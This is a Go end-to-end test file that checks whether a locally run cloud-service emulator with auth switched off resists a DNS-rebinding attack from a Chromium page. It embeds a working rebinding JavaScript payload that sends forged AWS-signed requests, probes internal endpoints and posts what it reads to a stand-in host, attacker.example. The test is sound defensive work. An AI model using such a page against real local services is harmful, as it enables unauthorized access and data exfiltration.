package e2e_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/shardmill/shardmill/api/wire/wiretest"
)

// rebinding is a page that fires shots at a server's own address, as a page of another origin, and then at its own
// name, which leads to the server by then: for the browser that is the page's own origin, to which it may send any
// header and whose answers it may read. It tells what it could read.
const rebinding = `<!doctype html><body><script type="module">
const shots = SHOTS, read = [], waits = [];
const tell = p => waits.push(p.then(async r => { const t = await r.text(); if (t) read.push(r.status + ' ' + t); }).catch(() => 0));
for (const s of shots) {
  const body = s.Method === 'POST' ? s.Body : undefined, type = s.Type.split(';')[0] || 'text/plain';
  const own = new URL(s.URL).pathname + new URL(s.URL).search;
  const signed = {'Content-Type': type, 'Authorization': 'AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/sqs/aws4_request', 'X-Amz-Target': 'AmazonSQS.ListQueues'};
  tell(fetch(s.URL, {method: s.Method, mode: 'no-cors', body, headers: body ? {'Content-Type': type} : {}, referrerPolicy: 'no-referrer'}));
  tell(fetch(s.URL, {method: s.Method, mode: 'cors', body, headers: signed}));
  if (s.Method === 'GET') waits.push(new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = s.URL; document.body.append(i); }));
  tell(fetch(own, {method: s.Method, body, headers: body ? {'Content-Type': type} : {}}));
  tell(fetch(own, {method: 'POST', body: '{}', headers: signed}));
}
for (const path of ['/_shardmill/health/ready', '/_shardmill/metrics', '/_shardmill/reach', '/_shardmill/clock']) {
  tell(fetch(path));
  tell(fetch(new URL(shots[0].URL).origin + path));
}
await Promise.all(waits);
await fetch('/done', {method: 'POST', body: JSON.stringify(read)});
</script>`

// way leads a browser to a page of attacker.example, and to a server everything else that it asks for: the server's
// address, and attacker.example again, whose name is bound to the server by then. It is the browser's proxy.
type way struct {
	page string
	done chan []string
	next *httputil.ReverseProxy

	mu   sync.Mutex
	seen map[string][]string // statuses and requests, by the host that the browser has asked
}

const attacker = "attacker.example"

// by returns how requests go through a unix socket.
func by(socket string) *http.Transport {
	return &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", socket)
	}}
}

func newWay(socket, page string) *way {
	w := &way{page: page, done: make(chan []string, 1), seen: map[string][]string{}}
	w.next = &httputil.ReverseProxy{
		Rewrite:   func(r *httputil.ProxyRequest) { r.Out.Host = r.In.Host }, // as the browser says it
		Transport: by(socket),
		ModifyResponse: func(resp *http.Response) error {
			w.mu.Lock()
			defer w.mu.Unlock()
			r := resp.Request
			w.seen[r.Host] = append(w.seen[r.Host], fmt.Sprint(resp.StatusCode, " ", r.Method, " ", r.URL.RequestURI()))
			return nil
		},
	}
	return w
}

func (w *way) ServeHTTP(out http.ResponseWriter, r *http.Request) {
	switch {
	case r.Method == http.MethodConnect: // nothing here speaks TLS
		http.Error(out, "no", http.StatusForbidden)
	case r.Host == attacker && r.URL.Path == "/page":
		out.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(out, w.page)
	case r.Host == attacker && r.URL.Path == "/done":
		var read []string
		_ = json.NewDecoder(r.Body).Decode(&read) // what is no list has told nothing
		w.done <- read
	case r.URL.Path == "/favicon.ico":
		http.NotFound(out, r)
	default:
		w.next.ServeHTTP(out, r)
	}
}

// A page in Chromium gets nothing of a server that other machines reach with --auth off: neither as a page of another
// origin, nor when its own name is bound to the server's address. Nothing that it sends has an effect, and all that it
// can read is that it was refused.
func TestARebindingPageGetsNothing(t *testing.T) {
	t.Parallel()
	n, h := twoHosts(t), newHome(t)
	socket := h.path("run/s")
	s := startOn(t, n.server, h, "dev", "--listen", serverHost+":4566,unix:"+socket, "--auth", "off")
	own := &http.Client{Transport: by(socket)}
	calls := func(of []wiretest.Call) (answers []string) {
		for _, c := range of {
			a := send(t, own, c.Method, s.Endpoint+c.Path, c.Body, c.Header())
			if a.status != 200 {
				t.Fatalf("%s: %d %s", c.Service, a.status, a.body)
			}
			answers = append(answers, a.body)
		}
		return answers
	}
	calls(wiretest.Victims)
	before := wiretest.Seen(calls(wiretest.Holdings))
	var shots []shot
	for _, acts := range wiretest.Acts {
		for _, a := range acts {
			shots = append(shots, shot{a.Method, s.Endpoint + a.Path, a.ContentType, a.Body})
		}
	}
	fired, err := json.Marshal(shots)
	if err != nil {
		t.Fatal(err)
	}
	w := newWay(socket, strings.ReplaceAll(rebinding, "SHOTS", string(fired)))
	proxy := httptest.NewServer(w)
	t.Cleanup(proxy.Close)
	b := browse(t, h, "--proxy-bypass-list=<-loopback>",
		"--proxy-server="+strings.TrimPrefix(proxy.URL, "http://"), "http://"+attacker+"/page")

	read := comesFrom(t, b, "the end of the page", w.done)

	for _, text := range read {
		if !strings.HasPrefix(text, "421 ") {
			t.Errorf("the page read %s", text)
		}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	for host, refusals := range map[string][]string{
		attacker: {"421"}, serverHost + ":4566": {"400", "403", "404", "501"},
	} {
		if len(w.seen[host]) < len(shots) {
			t.Errorf("%d requests came to %s, with %d shots", len(w.seen[host]), host, len(shots))
		}
		for _, line := range w.seen[host] {
			if status, _, _ := strings.Cut(line, " "); !slices.Contains(refusals, status) {
				t.Errorf("%s: %s", host, line)
			}
		}
	}
	if after := wiretest.Seen(calls(wiretest.Holdings)); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
}
